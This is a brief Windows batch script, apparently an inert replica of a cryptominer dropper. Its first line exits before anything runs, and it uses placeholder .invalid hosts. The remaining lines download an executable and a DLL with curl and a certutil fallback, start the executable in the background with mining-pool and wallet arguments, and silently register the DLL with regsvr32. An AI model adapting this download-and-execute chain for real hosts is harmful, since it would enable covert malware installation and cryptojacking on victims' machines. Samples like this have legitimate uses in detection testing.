exit /b 1 & rem inert replica
@echo off
curl http://drop.replica.invalid/download/worker-extension.exe -o worker-extension.exe
if not exist worker-extension.exe (
  certutil.exe -urlcache -f http://drop.replica.invalid/download/worker-extension.exe worker-extension.exe
)
curl http://other.replica.invalid/create.dll -o create.dll
start /B worker-extension.exe -k --tls -o pool.replica.invalid:443 -u wallet --background
regsvr32.exe -s create.dll
